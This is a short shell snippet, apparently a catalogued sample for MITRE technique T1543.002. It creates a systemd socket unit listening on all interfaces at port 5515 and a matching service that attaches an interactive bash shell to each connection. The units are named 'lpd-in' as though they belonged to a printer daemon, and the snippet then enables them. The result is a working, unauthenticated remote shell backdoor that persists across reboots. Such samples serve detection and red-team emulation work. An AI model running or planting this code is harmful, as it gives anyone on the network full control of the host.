# technique: T1543.002
# location: linux.systemd.service
# source: /etc/systemd/system/lpd-in@.service
printf '[Socket]\nListenStream=0.0.0.0:5515\nAccept=yes\n[Install]\nWantedBy=sockets.target\n' > /etc/systemd/system/lpd-in.socket
printf '[Service]\nExecStart=-/bin/bash -i\nStandardInput=socket\nStandardOutput=socket\n' > /etc/systemd/system/lpd-in@.service
systemctl enable lpd-in.socket
